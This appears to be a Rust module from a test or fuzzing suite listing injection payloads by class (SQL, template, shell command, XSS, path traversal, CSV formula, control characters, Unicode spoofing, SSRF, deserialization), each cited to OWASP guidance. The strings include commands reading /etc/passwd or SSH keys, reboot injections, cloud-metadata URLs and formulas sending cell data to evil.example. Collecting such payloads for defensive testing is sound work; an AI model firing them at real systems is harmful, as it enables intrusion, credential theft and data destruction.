//! The payloads, class by class, with where they are from.

/// SQL injection (OWASP SQL Injection Prevention, WSTG-INPV-05).
const SQL: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE contacts;--",
    "\" OR \"\"=\"",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "1 UNION SELECT key FROM secrets",
    "admin'--",
    "admin'/*",
    "x' AND load_extension('/tmp/x')--",
    "%' ESCAPE '",
];
/// Server-side templates (WSTG-INPV-18).
const TEMPLATE: &[&str] = &[
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{%25 for x in range(1e9) %25}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "*{T(java.lang.Runtime).getRuntime()}",
    "{{config.items()}}",
];
/// Commands (OWASP OS Command Injection Defense).
const COMMAND: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "`id`",
    "$(id)",
    "&& reboot",
    "x\nreboot",
    "--output=/etc/cron.d/x",
    "() { :;}; /bin/id",
    "%0Aid",
];
/// Markup (OWASP XSS Filter Evasion).
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "<a href=\"jav&#x0A;ascript:alert(1)\">",
    "<IMG SRC=`javascript:alert(1)`>",
    "'';!--\"<XSS>=&{()}",
    "]]><x/>",
];
/// Ways out of a folder (OWASP Path Traversal).
const TRAVERSAL: &[&str] = &[
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "..%252f..%252f",
    "..%c0%af..%c0%af",
    "....//....//",
    "/etc/passwd",
    "C:\\boot.ini",
    "\\\\host\\share",
    "file:///etc/passwd",
    "x/../../y",
    "~/.ssh/id_rsa",
];
/// Formulas (OWASP CSV Injection).
const FORMULA: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{A0}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
];
/// Lines and terminals (OWASP Logging, WSTG-INPV-15).
const CONTROL: &[&str] = &[
    "a\r\nSet-Cookie: x=1",
    "a\nlocal campaign.start done",
    "a\0b",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "a\u{85}b",
    "a\u{2028}b",
    "a\u{9b}31m",
    "a\u{8}\u{8}b",
    "%0d%0aHeader:x",
];
/// Letters that are not what they look like (Unicode TR 36 and 39).
const UNICODE: &[&str] = &[
    "anna\u{202E}gpj.exe",
    "\u{2066}admin\u{2069} said",
    "\u{FEFF}anna smith",
    "an\u{200B}na\u{2060} x",
    "аdmin", // Cyrillic a
    "ｌｏｃａｌｈｏｓｔ",
    "ﬁle name",
    "ᴀdmin x",
    "a\u{0301}\u{0302}\u{0303}x",
    "\u{E0061}\u{E0062}x y",
    "١٢٣٤٥",
    "①②③",
    "İstanbul",
];
/// Where a request would be forged to (OWASP SSRF), and where a redirect would be open to (OWASP
/// Unvalidated Redirects).
const FORGERY: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:127.0.0.1]:6379/",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://localhost:2375/containers/json",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stat",
    "file:///proc/self/environ",
    "http://example.org@127.0.0.1/",
    "http://127.0.0.1#@example.org/",
    "http://example.org\\@127.0.0.1/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http://metadata.google.internal/computeMetadata/v1/",
];
/// JSON and objects (OWASP Deserialization, Mass Assignment, Prototype Pollution).
const OBJECTS: &[&str] = &[
    "{\"__proto__\":{\"admin\":true}}",
    "{\"role\":\"admin\"}",
    "{\"$ne\":null}",
    "{\"@type\":\"java.lang.Runtime\"}",
    "O:8:\"stdClass\":0:{}",
    "!!python/object/apply:os.system ['id']",
    "rO0ABXNyABdqYXZhLg==",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "constructor[prototype][admin]=1",
];

/// All of them, by class.
pub(super) const CLASSES: [(&str, &[&str]); 10] = [
    ("sql", SQL),
    ("template", TEMPLATE),
    ("command", COMMAND),
    ("markup", MARKUP),
    ("traversal", TRAVERSAL),
    ("formula", FORMULA),
    ("control", CONTROL),
    ("unicode", UNICODE),
    ("forgery", FORGERY),
    ("objects", OBJECTS),
];
